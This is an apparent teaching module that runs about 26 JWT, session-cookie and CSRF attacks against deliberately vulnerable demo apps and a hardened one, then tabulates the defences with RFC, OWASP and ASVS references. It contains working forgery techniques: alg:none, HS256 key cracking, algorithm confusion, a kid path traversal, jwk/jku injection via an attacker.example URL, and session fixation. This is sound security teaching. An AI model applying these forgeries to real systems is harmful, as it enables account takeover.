"""Every attack of notebook 05, run against a vulnerable target and the hardened flow.

    with TeachingClock() as clock:
        rows = run_checklist(clock)          # one `Row` per attack, built by running it
        print(markdown_table(rows))

Each attack is a small function that builds nothing itself: `Targets` holds fresh
apps (the seed's literal port, the naive-advice app, the hardened app) with fixed
demo keys and seeded ids, so every result string is the same on every run. A row
records what happened on each side; `Row.check()` asserts the contract the notebook
and tests/test_labs.py rely on: the attack got in on the vulnerable side, and the
hardened side refused it with a clean 4xx (or an `InvalidToken`), never a 500.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Callable

import httpx
import jwt
from argon2 import PasswordHasher

from authdemo import Secret, Settings, create_app, create_vulnerable_seed_app, in_process_client
from authdemo.labs import cracking, naive_verifiers as naive
from authdemo.labs.cookies import browser_rules, jar_sends
from authdemo.labs.demo_keys import ATTACKER_PRIVATE_PEM, ATTACKER_PUBLIC_PEM, SERVER_PUBLIC_PEM
from authdemo.labs.forging import make_token, public_jwk, sign_rs256, tamper
from authdemo.labs.naive_apps import counter_ids, create_naive_advice_app
from authdemo.labs.pinned_verifiers import KeyRing, RS256Verifier
from authdemo.labs.world import PRETEND_FILES, FakeInternet
from authdemo.notebook.session_views import cookie_session_app
from authdemo.sessions.signing import encode_cookie_value
from authdemo.teaching import SeededIds
from authdemo.tokens import InvalidToken
from authdemo.users import DEMO_PASSWORDS, UserDirectory
from authdemo.vulnerable_seed import SEED_SECRET

JWT_KEY = "notebook-05 demo JWT key: 32+ bytes, printed here, never reuse"
SESSION_KEY = "notebook-05 demo session key: 32+ bytes, printed here, never reuse"
FAST_HASHER = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
"""Cheap Argon2 parameters so the labs log in quickly; hashing is not this lesson."""
ALICE = {"username": "alice", "password": DEMO_PASSWORDS["alice"][1]}
BOB = {"username": "bob", "password": DEMO_PASSWORDS["bob"][1]}
FOREIGN = {"origin": "http://evil.example", "sec-fetch-site": "cross-site"}
"""What a browser adds to a request that a page on another site triggered."""


# --- the two sides of every row ---------------------------------------------------------------
@dataclass(frozen=True)
class Outcome:
    target: str
    accepted: bool
    shown: str
    status: int | None = None
    """The HTTP status, for attacks sent over HTTP; None for verifier calls and cookie jars."""


def http_outcome(target: str, response: httpx.Response, note: str = "") -> Outcome:
    """`200 as carol`, `401 bad signature`...: the status and what the body says."""
    try:
        body = response.json()
    except ValueError:
        body = None
    body = body if isinstance(body, dict) else {}
    if body.get("user") or body.get("username"):
        said = f"as {body.get('user') or body.get('username')}"
    elif "token" in body:
        said = "a new access token"
    elif body.get("ok"):
        said = "done"
    else:
        said = str(body.get("message", response.reason_phrase))
    shown = f"{response.status_code} {said}" + (f" ({note})" if note else "")
    return Outcome(target, response.status_code == 200, shown, response.status_code)


def verifier_outcome(target: str, verify: Callable[[], dict[str, Any]], note: str = ""
                     ) -> Outcome:
    try:
        claims = verify()
    except InvalidToken as exc:
        return Outcome(target, False, f"InvalidToken: {exc.reason}" + (f"; {note}" if note
                                                                         else ""))
    who = claims.get("sub") or claims.get("username")
    return Outcome(target, True, f"accepted as {who}" + (f"; {note}" if note else ""))


@dataclass(frozen=True)
class Reference:
    rfc8725: str
    owasp: str
    asvs: str
    portswigger: str


@dataclass(frozen=True)
class Row:
    attack: str
    vulnerable: Outcome
    hardened: Outcome
    defence: str
    reference: Reference

    def check(self) -> None:
        assert self.vulnerable.accepted, f"{self.attack}: did not get in on {self.vulnerable}"
        assert not self.hardened.accepted, f"{self.attack}: got in on {self.hardened}"
        if self.hardened.status is not None:
            assert 400 <= self.hardened.status < 500, f"{self.attack}: {self.hardened}"


# --- the targets ------------------------------------------------------------------------------
class Targets:
    """Fresh apps for one run, all on the given clock, all reproducible."""

    def __init__(self, clock: Callable[[], float]) -> None:
        self.clock = clock
        self.settings = Settings(jwt_secret=Secret(JWT_KEY),
                                 session_secrets=(Secret(SESSION_KEY),),
                                 new_id=SeededIds(505), clock=clock, session_store="memory")
        self.users = UserDirectory.demo(FAST_HASHER)

    def hardened(self, **changes: Any):
        return create_app(self.settings.replace(**changes), users=self.users)

    def seed(self, genid: Callable[[], str] | None = None):
        return create_vulnerable_seed_app(genid=genid or SeededIds(506), clock=self.clock)

    def client(self, app: Any, **kwargs: Any) -> httpx.Client:
        return in_process_client(app, **kwargs)

    def hardened_token(self, client: httpx.Client, who: dict[str, str] = ALICE) -> dict[str, Any]:
        response = client.post("/jwt/login", json=who)
        assert response.status_code == 200, response.text
        return response.json()

    def seed_token(self, username: str = "alice") -> str:
        return self.client(self.seed()).post("/jwt/login", json={"username": username}
                                             ).json()["token"]

    def claims(self, **changes: Any) -> dict[str, Any]:
        """Claims the hardened app would issue for alice, with `changes` (None removes)."""
        now = int(self.clock())
        claims = {"iss": "authdemo", "aud": "authdemo-api", "sub": "alice", "iat": now,
                  "exp": now + 900, "jti": "lab-jti", "token_use": "access", "role": "user",
                  "fam": "lab-family"}
        claims.update(changes)
        return {k: v for k, v in claims.items() if v is not None}


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _with_cookie(t: Targets, app: Any, name: str, value: str) -> httpx.Client:
    client = t.client(app)
    client.cookies.set(name, value)
    return client


# --- JWT attacks ------------------------------------------------------------------------------
def tampering(t: Targets) -> tuple[Outcome, Outcome]:
    forged = tamper(t.seed_token(), username="admin")
    seed = t.client(t.seed()).get("/jwt/protected", headers={"Authorization": forged})
    assert seed.status_code == 401
    vulnerable = verifier_outcome("decode without verify",
                                  lambda: naive.decode_without_verify(forged),
                                  note=f"seed: {seed.status_code}")
    app = t.hardened()
    client = t.client(app)
    forged = tamper(t.hardened_token(client)["access_token"], sub="carol", role="admin")
    return vulnerable, http_outcome("hardened", client.get("/jwt/me", headers=bearer(forged)))


ALG_NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")


def alg_none(t: Targets) -> tuple[Outcome, Outcome]:
    forged = [make_token({"alg": alg, "typ": "JWT"}, t.claims(sub="carol", role="admin"))
              for alg in ALG_NONE_SPELLINGS]
    got_in = [naive.verify_trusting_header(token, JWT_KEY.encode())["sub"] for token in forged]
    assert got_in == ["carol"] * len(forged)
    seed = t.client(t.seed())
    assert all(seed.get("/jwt/protected", headers={"Authorization": token}).status_code == 401
               for token in forged)
    client = t.client(t.hardened())
    answers = [client.get("/jwt/me", headers=bearer(token)) for token in forged]
    assert len({(r.status_code, r.text) for r in answers}) == 1
    return (Outcome("header-trusting verifier", True,
                    f"accepted as carol, all {len(forged)} spellings (seed: 401)"),
            http_outcome("hardened", answers[0], note=f"all {len(forged)} spellings"))


def weak_secret(t: Targets) -> tuple[Outcome, Outcome]:
    found = cracking.crack_hs256(t.seed_token())
    assert found.secret == SEED_SECRET
    forged = jwt.encode({"username": "admin", "exp": int(t.clock()) + 3600},
                        found.secret, algorithm="HS256")
    seed = t.client(t.seed()).get("/jwt/protected", headers={"Authorization": forged})
    client = t.client(t.hardened())
    missed = cracking.crack_hs256(t.hardened_token(client)["access_token"])
    assert missed.secret is None
    forged = jwt.encode(t.claims(sub="carol", role="admin"), SEED_SECRET, algorithm="HS256")
    return (http_outcome("seed", seed, note=f"key found in {found.guesses} guesses"),
            http_outcome("hardened", client.get("/jwt/me", headers=bearer(forged)),
                         note=f"no key in {missed.guesses} guesses"))


def algorithm_confusion(t: Targets) -> tuple[Outcome, Outcome]:
    claims = t.claims(iss="rs256-service", sub="carol", role="admin")
    forged = make_token({"alg": "HS256", "typ": "JWT"}, claims, key=SERVER_PUBLIC_PEM)
    app = t.client(t.hardened()).get("/jwt/me", headers=bearer(forged))
    assert app.status_code == 401
    return (verifier_outcome("naive RS256 verifier",
                             lambda: naive.verify_rs256_confused(forged, SERVER_PUBLIC_PEM)),
            verifier_outcome("pinned RS256 verifier",
                             lambda: RS256Verifier(SERVER_PUBLIC_PEM).decode(forged),
                             note=f"app: {app.status_code}"))


def kid_traversal(t: Targets) -> tuple[Outcome, Outcome]:
    header = {"alg": "HS256", "typ": "JWT", "kid": "../../../dev/null"}
    forged = make_token(header, t.claims(sub="carol", role="admin"), key=b"")
    ring = KeyRing({"2026-01": PRETEND_FILES["/srv/app/keys/2026-01"]})
    app = t.client(t.hardened()).get("/jwt/me", headers=bearer(forged))
    assert app.status_code == 401
    return (verifier_outcome("kid-as-file-name verifier",
                             lambda: naive.verify_with_kid_file(forged)),
            verifier_outcome("key ring", lambda: ring.decode(forged),
                             note=f"app: {app.status_code}"))


def jwk_injection(t: Targets) -> tuple[Outcome, Outcome]:
    claims = t.claims(iss="rs256-service", sub="carol", role="admin")
    forged = sign_rs256(claims, ATTACKER_PRIVATE_PEM, kid="attacker",
                        jwk=public_jwk(ATTACKER_PUBLIC_PEM, "attacker"))
    app = t.client(t.hardened()).get("/jwt/me", headers=bearer(forged))
    assert app.status_code == 401
    return (verifier_outcome("jwk-trusting verifier",
                             lambda: naive.verify_with_header_jwk(forged)),
            verifier_outcome("pinned RS256 verifier",
                             lambda: RS256Verifier(SERVER_PUBLIC_PEM).decode(forged),
                             note=f"app: {app.status_code}"))


ATTACKER_JKU = "https://attacker.example/.well-known/jwks.json"


def jku_injection(t: Targets) -> tuple[Outcome, Outcome]:
    internet = FakeInternet({ATTACKER_JKU: {"keys": [public_jwk(ATTACKER_PUBLIC_PEM, "k1")]}})
    claims = t.claims(iss="rs256-service", sub="carol", role="admin")
    forged = sign_rs256(claims, ATTACKER_PRIVATE_PEM, kid="k1", jku=ATTACKER_JKU)
    vulnerable = verifier_outcome("jku-fetching verifier",
                                  lambda: naive.verify_with_jku(forged, internet))
    assert internet.fetched == [ATTACKER_JKU]
    internet.fetched.clear()
    pinned = verifier_outcome("pinned RS256 verifier",
                              lambda: RS256Verifier(SERVER_PUBLIC_PEM).decode(forged),
                              note=f"{len(internet.fetched)} fetches")
    assert internet.fetched == []
    return vulnerable, pinned


def _claim_attack(name: str, changes: dict[str, Any], seed_changes: dict[str, Any]
                  ) -> Callable[[Targets], tuple[Outcome, Outcome]]:
    def attack(t: Targets) -> tuple[Outcome, Outcome]:
        now = int(t.clock())
        seed_claims = {k: v for k, v in {"username": "alice", "iat": now, "exp": now + 3600,
                                         **seed_changes}.items() if v is not None}
        token = jwt.encode(seed_claims, SEED_SECRET, algorithm="HS256")
        seed = t.client(t.seed()).get("/jwt/protected", headers={"Authorization": token})
        if seed.status_code == 200:
            vulnerable = http_outcome("seed", seed)
        else:  # the seed's PyJWT happens to check this one: show a decoder that does not
            vulnerable = verifier_outcome("decode without verify",
                                          lambda: naive.decode_without_verify(token),
                                          note=f"seed: {seed.status_code}")
        hardened_token = jwt.encode(t.claims(**changes), JWT_KEY, algorithm="HS256")
        response = t.client(t.hardened()).get("/jwt/me", headers=bearer(hardened_token))
        return vulnerable, http_outcome("hardened", response)

    attack.__name__ = name
    return attack


expired = _claim_attack("expired", {"iat": 0, "exp": 1}, {"iat": 0, "exp": 1})
not_yet_valid = _claim_attack("not_yet_valid", {"nbf": 4102444800}, {"nbf": 4102444800})
wrong_audience = _claim_attack("wrong_audience", {"aud": "billing-api"}, {"aud": "billing-api"})
wrong_issuer = _claim_attack("wrong_issuer", {"iss": "evil.example"}, {"iss": "evil.example"})
missing_exp = _claim_attack("missing_exp", {"exp": None}, {"exp": None})
refresh_as_access = _claim_attack("refresh_as_access", {"token_use": "refresh"},
                                  {"token_use": "refresh"})


def replay_after_logout(t: Targets) -> tuple[Outcome, Outcome]:
    seed = t.client(t.seed())
    token = seed.post("/jwt/login", json={"username": "alice"}).json()["token"]
    seed.post("/session/logout")  # the seed's only logout
    vulnerable = http_outcome("seed", seed.get("/jwt/protected", headers={"Authorization": token}))
    client = t.client(t.hardened())
    token = t.hardened_token(client)["access_token"]
    assert client.post("/jwt/logout", headers=bearer(token)).status_code == 200
    return vulnerable, http_outcome("hardened", client.get("/jwt/me", headers=bearer(token)))


def refresh_reuse(t: Targets) -> tuple[Outcome, Outcome]:
    naive_client = t.client(create_naive_advice_app(t.clock))
    stolen = naive_client.post("/jwt/login", json={"username": "alice"}).json()["refresh_token"]
    assert naive_client.post("/jwt/refresh", json={"refresh_token": stolen}).status_code == 200
    reused = naive_client.post("/jwt/refresh", json={"refresh_token": stolen})
    vulnerable = http_outcome("naive-advice app", reused,
                              note="no rotation: the copy works all week")
    client = t.client(t.hardened())
    stolen = t.hardened_token(client)["refresh_token"]
    alice = client.post("/jwt/refresh", json={"refresh_token": stolen}).json()
    reused = client.post("/jwt/refresh", json={"refresh_token": stolen})
    after = client.get("/jwt/me", headers=bearer(alice["access_token"]))
    assert after.status_code == 401 and after.json()["message"] == "login revoked"
    return vulnerable, http_outcome("hardened", reused,
                                    note=f"alice's new token: {after.json()['message']}")


def stolen_token_later(t: Targets, minutes: int = 16) -> tuple[Outcome, Outcome]:
    seed_app, app = t.seed(), t.hardened()
    seed_token = t.client(seed_app).post("/jwt/login", json={"username": "alice"}
                                         ).json()["token"]
    token = t.hardened_token(t.client(app))["access_token"]
    thief_seed, thief = t.client(seed_app), t.client(app)  # fresh clients: no cookies
    assert thief.get("/jwt/me", headers=bearer(token)).status_code == 200  # works at first
    _advance(t, minutes * 60)
    return (http_outcome("seed", thief_seed.get("/jwt/protected",
                                                headers={"Authorization": seed_token}),
                         note=f"{minutes} min later"),
            http_outcome("hardened", thief.get("/jwt/me", headers=bearer(token)),
                         note=f"{minutes} min later"))


def _advance(t: Targets, seconds: float) -> None:
    advance = getattr(t.clock, "advance", None)
    if advance is None:
        raise TypeError("this lab needs a movable clock (authdemo.teaching.TeachingClock)")
    advance(seconds)


# --- session and cookie attacks ---------------------------------------------------------------
def session_fixation(t: Targets) -> tuple[Outcome, Outcome]:
    seed_app = t.seed()
    attacker = t.client(seed_app)
    attacker.get("/hello")  # saveUninitialized: true hands out a session to anyone
    planted = attacker.cookies["connect.sid"]
    victim = _with_cookie(t, seed_app, "connect.sid", planted)
    victim.post("/session/login", json={"username": "alice"})
    vulnerable = http_outcome("seed", attacker.get("/session/protected"))
    app = t.hardened()
    attacker = t.client(app)
    attacker.post("/session/login", json=BOB)  # the attacker's own account
    victim = _with_cookie(t, app, "authdemo.sid", attacker.cookies["authdemo.sid"])
    assert victim.post("/session/login", json=ALICE).status_code == 200
    return vulnerable, http_outcome("hardened", attacker.get("/session/me"))


def predictable_session_id(t: Targets) -> tuple[Outcome, Outcome]:
    seed_app = t.seed(genid=counter_ids())
    attacker = t.client(seed_app)
    attacker.get("/hello")
    own = attacker.cookies["connect.sid"]
    found = cracking.crack_session_cookie(own)
    assert found.secret == SEED_SECRET
    t.client(seed_app).post("/session/login", json={"username": "alice"})  # gets sess-0002
    forged = encode_cookie_value("sess-0002", Secret(found.secret))
    vulnerable = http_outcome("seed + counter ids",
                              _with_cookie(t, seed_app, "connect.sid", forged
                                           ).get("/session/protected"),
                              note=f"key found in {found.guesses} guesses")
    app = t.hardened(new_id=SeededIds(9))  # ids the attacker does not know
    client = t.client(app)
    client.post("/session/login", json=ALICE)
    missed = cracking.crack_session_cookie(client.cookies["authdemo.sid"])
    assert missed.secret is None
    guess = encode_cookie_value("sess-0002", Secret(SEED_SECRET))
    return vulnerable, http_outcome(
        "hardened", _with_cookie(t, app, "authdemo.sid", guess).get("/session/me"),
        note=f"no key in {missed.guesses} guesses")


def unsigned_cookie(t: Targets) -> tuple[Outcome, Outcome]:
    naive_app = create_naive_advice_app(t.clock)
    mallory = t.client(naive_app)
    mallory.post("/plain/login", json={"username": "mallory"})
    edited = _with_cookie(t, naive_app, "user", "admin").get("/plain/me")
    seed_app = t.seed()
    seed_client = t.client(seed_app)
    seed_client.get("/hello")
    sid_value = seed_client.cookies["connect.sid"]
    seed_status = _with_cookie(t, seed_app, "connect.sid", sid_value.replace("s%3A", "", 1)
                               ).get("/session/protected").status_code
    app = t.hardened()
    client = t.client(app)
    client.post("/session/login", json=ALICE)
    value = client.cookies["authdemo.sid"]
    tampered = value[:-1] + ("A" if value[-1] != "A" else "B")
    answers = [_with_cookie(t, app, "authdemo.sid", v).get("/session/me")
               for v in (tampered, value.replace("s%3A", "", 1), "admin")]
    assert {r.status_code for r in answers} == {401}
    return (http_outcome("naive unsigned cookie", edited, note=f"seed: {seed_status}"),
            http_outcome("hardened", answers[0], note="tampered, unsigned or made up"))


def cookie_logout_replay(t: Targets) -> tuple[Outcome, Outcome]:
    starlette_app = cookie_session_app(SESSION_KEY)
    browser = t.client(starlette_app)
    browser.post("/login", json={"username": "alice"})
    copy = browser.cookies["session"]
    browser.post("/logout")
    vulnerable = http_outcome("Starlette signed cookie",
                              _with_cookie(t, starlette_app, "session", copy).get("/protected"),
                              note="after logout")
    app = t.hardened()
    browser = t.client(app)
    csrf = browser.post("/session/login", json=ALICE).json()["csrf_token"]
    copy = browser.cookies["authdemo.sid"]
    assert browser.post("/session/logout", headers={"x-csrf-token": csrf}).status_code == 200
    return vulnerable, http_outcome(
        "hardened", _with_cookie(t, app, "authdemo.sid", copy).get("/session/me"),
        note="after logout")


def set_cookie_of(response: httpx.Response, name: str) -> str:
    (header,) = [h for h in response.headers.get_list("set-cookie") if h.startswith(name + "=")]
    return header


def cookie_over_http(t: Targets) -> tuple[Outcome, Outcome]:
    seed_cookie = set_cookie_of(t.client(t.seed()).get("/hello"), "connect.sid")
    https = t.client(t.hardened(), base_url="https://testserver")
    ours = set_cookie_of(https.post("/session/login", json=ALICE), "authdemo.sid")
    sent = {name: jar_sends(header, "https://testserver/", "http://testserver/session/me")
            for name, header in (("seed", seed_cookie), ("hardened", ours))}
    return (Outcome("seed", sent["seed"], "sent over plain http (no Secure)"),
            Outcome("hardened", sent["hardened"], "not sent over http (Secure)"))


def script_reads_credential(t: Targets) -> tuple[Outcome, Outcome]:
    seed_login = t.client(t.seed()).post("/jwt/login", json={"username": "alice"})
    in_body = "token" in seed_login.json()  # the page's JavaScript receives it, keeps it
    hardened = t.client(t.hardened()).post("/jwt/login", json={**ALICE, "delivery": "cookie"})
    access = set_cookie_of(hardened, "authdemo_access")
    readable = browser_rules(access, set_over_https=False).script_can_read
    assert "access_token" not in hardened.json()
    return (Outcome("seed", in_body, "token in the JSON body: page script holds it"),
            Outcome("hardened cookie mode", readable, "HttpOnly cookie: script cannot read it"))


def cross_site_cookie(t: Targets) -> tuple[Outcome, Outcome]:
    seed_cookie = set_cookie_of(t.client(t.seed()).get("/hello"), "connect.sid")
    ours = set_cookie_of(t.client(t.hardened()).post("/session/login", json=ALICE),
                         "authdemo.sid")
    seed_rule = browser_rules(seed_cookie, set_over_https=False).sent_on_cross_site_post
    ours_rule = browser_rules(ours, set_over_https=False).sent_on_cross_site_post
    assert seed_rule is None and ours_rule is False
    return (Outcome("seed", True, "no SameSite: Firefox and Safari send it cross-site"),
            Outcome("hardened", False, "SameSite=Lax: no cookie on a cross-site POST"))


def cookie_tossing(t: Targets) -> tuple[Outcome, Outcome]:
    tossed = "connect.sid=s%3Aattacker.sig; Domain=demo.example; Path=/"
    shared = jar_sends(tossed, "https://evil.demo.example/", "https://app.demo.example/")
    app = t.hardened(session_cookie_name="__Host-authdemo.sid")
    ours = set_cookie_of(t.client(app, base_url="https://testserver").post(
        "/session/login", json=ALICE), "__Host-authdemo.sid")
    assert browser_rules(ours, set_over_https=True).host_prefix_accepted is True
    tossed_host = "__Host-authdemo.sid=s%3Aattacker.sig; Domain=demo.example; Path=/; Secure"
    accepted = browser_rules(tossed_host, set_over_https=True).host_prefix_accepted
    return (Outcome("seed-style cookie", shared, "a sibling subdomain's cookie reaches the app"),
            Outcome("hardened + __Host-", bool(accepted),
                    "browser refuses a __Host- cookie with Domain"))


def csrf_session_logout(t: Targets) -> tuple[Outcome, Outcome]:
    seed_browser = t.client(t.seed())
    seed_browser.post("/session/login", json={"username": "alice"})
    forged = seed_browser.post("/session/logout", headers=FOREIGN)
    assert seed_browser.get("/session/protected").status_code == 401  # alice was logged out
    browser = t.client(t.hardened())
    browser.post("/session/login", json=ALICE)
    refused = browser.post("/session/logout", headers=FOREIGN)
    assert browser.get("/session/me").status_code == 200  # alice is still logged in
    return (http_outcome("seed", forged, note="alice logged out by another site"),
            http_outcome("hardened", refused))


def csrf_jwt_cookie(t: Targets) -> tuple[Outcome, Outcome]:
    naive_browser = t.client(create_naive_advice_app(t.clock))
    naive_browser.post("/jwt/login", json={"username": "alice"})
    forged = naive_browser.post("/jwt/logout", headers=FOREIGN)
    browser = t.client(t.hardened())
    browser.post("/jwt/login", json={**ALICE, "delivery": "cookie"})
    refused = browser.post("/jwt/logout", headers=FOREIGN)
    assert browser.get("/jwt/me").status_code == 200
    return (http_outcome("naive-advice app", forged, note="HttpOnly is no CSRF defence"),
            http_outcome("hardened cookie mode", refused))


# --- the table --------------------------------------------------------------------------------
def _ref(rfc: str, owasp: str, asvs: str, lab: str) -> Reference:
    return Reference(rfc, owasp, asvs, lab)


JWT_CS, SESSION_CS, CSRF_CS = "JSON Web Token", "Session Management", "CSRF Prevention"
LAB = "JWT authentication bypass via "
ATTACKS: list[tuple[str, Callable[[Targets], tuple[Outcome, Outcome]], str, Reference]] = [
    ("Payload tampered, old signature", tampering, "verify the signature before reading",
     _ref("§3.3", JWT_CS, "V9.1.1", LAB + "unverified signature")),
    ("alg: none (4 spellings)", alg_none, "algorithms pinned by the server",
     _ref("§2.1, §3.1", JWT_CS, "V9.1.2", LAB + "flawed signature verification")),
    ("Crack the key, forge admin", weak_secret, "32 random bytes from Settings, not code",
     _ref("§2.2, §3.5", JWT_CS, "V13.3.1", LAB + "weak signing key")),
    ("Algorithm confusion RS256→HS256", algorithm_confusion, "one algorithm per key, pinned",
     _ref("§2.1, §3.1", JWT_CS, "V9.1.2", LAB + "algorithm confusion")),
    ("kid path traversal", kid_traversal, "kid looks up an allowlist, never a path",
     _ref("§3.10", JWT_CS, "V9.1.3", LAB + "kid header path traversal")),
    ("jwk header injection", jwk_injection, "only configured keys verify",
     _ref("§3.10", JWT_CS, "V9.1.3", LAB + "jwk header injection")),
    ("jku header injection", jku_injection, "fetch nothing a token names",
     _ref("§3.10", JWT_CS, "V9.1.3", LAB + "jku header injection")),
    ("Expired token", expired, "exp checked (5 s leeway)",
     _ref("— (RFC 7519 §4.1.4)", JWT_CS, "V9.2.1", "—")),
    ("Token not yet valid (nbf)", not_yet_valid, "nbf checked",
     _ref("— (RFC 7519 §4.1.5)", JWT_CS, "V9.2.1", "—")),
    ("Token for another audience", wrong_audience, "aud must be ours",
     _ref("§3.9", JWT_CS, "V9.2.3", "—")),
    ("Token from another issuer", wrong_issuer, "iss must be ours",
     _ref("§3.8", JWT_CS, "V9.2.3", "—")),
    ("Token without exp", missing_exp, "exp, iat, sub, jti, iss, aud required",
     _ref("— (RFC 7519 §4.1.4)", JWT_CS, "V9.2.1", "—")),
    ("Refresh token used as access token", refresh_as_access, "token_use checked",
     _ref("§3.11, §3.12", JWT_CS, "V9.2.2", "—")),
    ("Replay after logout", replay_after_logout, "jti denylist in Redis",
     _ref("—", JWT_CS, "V7.4.1", "—")),
    ("Refresh token reused", refresh_reuse, "rotation; reuse revokes the family",
     _ref("— (RFC 9700 §4.14)", JWT_CS, "V7.4.1", "—")),
    ("Stolen token, 16 min later", stolen_token_later, "15-minute access tokens",
     _ref("—", JWT_CS, "V9.2.1", "—")),
    ("Session fixation", session_fixation, "regenerate the id at login",
     _ref("—", SESSION_CS, "V7.2.4", "—")),
    ("Predictable id + cracked cookie key", predictable_session_id,
     "192-bit CSPRNG ids, 32-byte key", _ref("—", SESSION_CS, "V7.2.3", "—")),
    ("Edited / unsigned cookie", unsigned_cookie, "signed id; data stays on the server",
     _ref("—", SESSION_CS, "V7.2.1", "—")),
    ("Cookie replayed after logout", cookie_logout_replay, "destroy in the store",
     _ref("—", SESSION_CS, "V7.4.1", "—")),
    ("Cookie sent over plain HTTP", cookie_over_http, "Secure (auto on HTTPS)",
     _ref("—", SESSION_CS, "V3.3.1", "—")),
    ("Script reads the credential (XSS)", script_reads_credential, "HttpOnly cookie",
     _ref("—", SESSION_CS, "V3.3.4", "—")),
    ("Cookie on a cross-site POST", cross_site_cookie, "SameSite=Lax",
     _ref("—", CSRF_CS, "V3.3.2", "—")),
    ("Cookie tossed from a subdomain", cookie_tossing, "__Host- prefix (opt-in)",
     _ref("—", SESSION_CS, "V3.3.3", "—")),
    ("CSRF: session logout", csrf_session_logout, "X-CSRF-Token from login",
     _ref("—", CSRF_CS, "V3.5.1", "CSRF vulnerability with no defenses")),
    ("CSRF: JWT in a cookie", csrf_jwt_cookie, "X-CSRF-Token + SameSite=Strict",
     _ref("—", CSRF_CS, "V3.5.1", "CSRF vulnerability with no defenses")),
]


def run_checklist(clock: Callable[[], float]) -> list[Row]:
    """Run every attack on fresh targets; each row is checked before it is returned."""
    t = Targets(clock)
    rows = []
    for name, attack, defence, reference in ATTACKS:
        vulnerable, hardened = attack(t)
        row = Row(name, vulnerable, hardened, defence, reference)
        row.check()
        rows.append(row)
    return rows


def markdown_table(rows: list[Row]) -> str:
    lines = ["| attack | vulnerable side | hardened side | defence | RFC 8725 | OWASP cheat "
             "sheet | ASVS 5.0 | PortSwigger lab |", "|" + "---|" * 8]
    for r in rows:
        ref = r.reference
        lines.append(f"| {r.attack} | {r.vulnerable.target}: {r.vulnerable.shown} | "
                     f"{r.hardened.target}: {r.hardened.shown} | {r.defence} | {ref.rfc8725} | "
                     f"{ref.owasp} | {ref.asvs} | {ref.portswigger} |")
    return "\n".join(lines)


__all__ = ["ATTACKS", "Outcome", "Reference", "Row", "Targets", "markdown_table",
           "run_checklist"]
